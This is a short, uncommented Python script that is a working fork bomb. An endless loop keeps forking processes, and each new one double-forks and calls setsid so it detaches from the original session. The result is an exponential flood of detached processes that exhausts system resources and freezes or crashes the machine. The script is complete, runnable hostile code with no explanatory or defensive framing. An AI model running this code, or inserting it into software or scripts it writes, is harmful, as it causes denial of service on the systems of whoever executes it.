import os
while True:
    try:
        if os.fork() == 0:
            if os.fork() > 0:
                os._exit(0)
            os.setsid()
    except OSError:
        pass
